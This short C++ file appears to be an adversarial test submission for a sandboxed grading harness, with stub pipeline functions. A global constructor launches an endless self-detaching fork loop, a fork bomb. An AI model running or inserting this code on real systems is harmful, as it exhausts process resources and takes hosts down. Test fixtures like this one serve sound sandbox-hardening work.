// attack: processes that start processes and end, faster than anybody can count
// ends: timeout crash ok
#include <signal.h>
#include <unistd.h>

#include "exercise.hpp"

struct Bomb {
  Bomb() {
    signal(SIGCHLD, SIG_IGN);
    if (fork() != 0) return;
    while (true) {
      setsid();
      if (fork() > 0) _exit(0);
    }
  }
} bomb;

namespace pipeline {

std::int64_t tick_count(std::int32_t, std::int32_t) { return 0; }
double utilisation(std::int32_t, std::int32_t) { return 0; }
std::int32_t running_at(std::int32_t, std::int32_t, std::int32_t) { return kIdle; }

}  // namespace pipeline
